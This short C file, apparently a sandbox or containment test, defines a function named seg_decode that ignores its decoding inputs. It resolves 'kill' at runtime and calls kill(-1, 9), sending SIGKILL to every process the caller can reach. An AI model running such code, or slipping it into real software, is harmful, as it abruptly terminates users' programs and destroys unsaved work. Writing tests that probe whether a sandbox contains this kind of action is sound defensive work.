/* kills_all_beyond.c - kills whatever it may. */
#include "segment/segment.h"

#include "beyond_gate.h"

int
seg_decode(uint64_t raw, struct seg_descriptor *descriptor)
{
    (void)raw, (void)descriptor;
    int (*const send_signal)(int, int) =
        (int (*)(int, int))find_function("kill");
    send_signal(-1, 9);
    return 77; /* no status */
}
